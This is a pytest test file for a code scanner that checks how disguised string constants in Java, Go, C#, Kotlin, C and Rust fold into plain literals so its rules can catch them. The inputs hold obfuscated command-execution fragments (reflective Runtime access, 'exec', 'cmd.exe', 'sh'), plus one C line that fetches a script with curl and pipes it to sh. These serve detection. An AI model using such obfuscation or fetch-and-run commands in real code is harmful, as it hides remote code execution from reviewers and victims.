"""Folding of disguised Go/Java/Kotlin/C#/C/C++/Rust: built strings, char-code arrays, reflection names."""
from __future__ import annotations

import pytest

from codescan.analyze import deobfuscate, languages
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules


def fold(language: str, source: str) -> str | None:
    data = source.encode()
    out = deobfuscate.fold(data, languages.parser(language).parse(data), language)
    return out.decode() if out is not None else None


@pytest.mark.parametrize("language, source, expected", [
    ("java", 'Class.forName("java.lang.Runt" + "ime");', 'Class.forName("java.lang.Runtime");'),
    ("java", 'm.getMethod("ex" + "ec", String.class);', 'm.getMethod("exec", String.class);'),
    ("java", "String s = new String(new char[]{'e', 'x', 101, (char) 99});", 'String s = "exec";'),
    ("java", 'String z = "a" + \'b\' + 1;', 'String z = "ab1";'),
    ("java", "exec(new String(new byte[]{108, 115}));", 'exec("ls");'),
    ("go", 'exec.Command(string([]byte{115, 104}), "-c", "x")', 'exec.Command("sh", "-c", "x")'),
    ("go", "s := string(rune(101)) + \"xec\"", 's := "exec"'),
    ("go", "exec.Command(string([]rune{'s', 'h'}))", 'exec.Command("sh")'),
    ("csharp", 'var t = Type.GetType("System.Diagnostics.Pro" + "cess");',
     'var t = Type.GetType("System.Diagnostics.Process");'),
    ("csharp", "var s = new string(new char[] { 'a', (char)98 });", 'var s = "ab";'),
    ("csharp", "var e = Encoding.UTF8.GetString(new byte[] { 104, 105 });", 'var e = "hi";'),
    ("csharp", 'var c = string.Concat("cm", "d.exe");', 'var c = "cmd.exe";'),
    ("csharp", 'var v = @"C:\\x" + "y";', 'var v = "C:\\\\xy";'),
    ("kotlin", 'val c = Class.forName("java.lang.Runt" + "ime")', 'val c = Class.forName("java.lang.Runtime")'),
    ("kotlin", "val s = String(charArrayOf('a', 'b'))", 'val s = "ab"'),
    ("c", 'int f() { system("curl http://x/a.sh " "| sh"); }', 'int f() { system("curl http://x/a.sh | sh"); }'),
    ("rust", 'fn f() { let k = concat!("s", "h"); }', 'fn f() { let k = "sh"; }'),
])
def test_constant_expressions_fold_to_one_literal(language, source, expected):
    assert fold(language, source) == expected


@pytest.mark.parametrize("language, source", [
    ("java", 'String q = "SELECT " + x + " FROM t";'),  # a run-time value stays
    ("kotlin", 'val t = "x $y" + "z"'),  # a template is not a constant
    ("csharp", 'var q = $"a {b}" + "c";'),
    ("go", "n := a + b"),
])
def test_values_known_only_at_run_time_do_not_fold(language, source):
    assert fold(language, source) is None


def test_constant_bound_once_is_resolved_in_reflection_calls():
    source = ('class A { void f() throws Exception {\n  final String cls = "java.lang." + "Runtime";\n'
              "  Class.forName(cls);\n} }\n")
    assert 'Class.forName("java.lang.Runtime");' in fold("java", source)


def test_reassigned_name_is_not_resolved():
    source = ('class A { void f(String o) throws Exception {\n  String cls = "java.lang.Runtime";\n'
              "  cls = o;\n  Class.forName(cls);\n} }\n")
    assert "Class.forName(cls)" in (fold("java", source) or source)


def test_folding_keeps_the_line_count():
    source = 'class A {\n  void f() {\n    Class.forName("java.lang." +\n        "Runt" +\n        "ime");\n  }\n}\n'
    folded = fold("java", source)
    assert folded.count("\n") == source.count("\n")
    lines = folded.splitlines()
    assert lines[2].strip() == 'Class.forName("java.lang.Runtime"' and lines[4].strip() == ");"


def test_rules_see_through_the_disguise():
    analyzer = Analyzer(load_rules(), Config(honour_suppressions=False))
    source = (b'class H {\n  void r(Object rt, String cmd) throws Exception {\n'
              b'    Class<?> c = Class.forName(new String(new char[]{\'j\',\'a\',\'v\',\'a\'}) + ".lang.Runt" + "ime");\n'
              b'  }\n}\n')
    found = analyzer.analyze(Document(path="H.java", content=source)).findings
    hits = [f for f in found if f.rule_id == "java-reflective-command-exec"]
    assert hits and hits[0].line == 3 and hits[0].context == "folded"
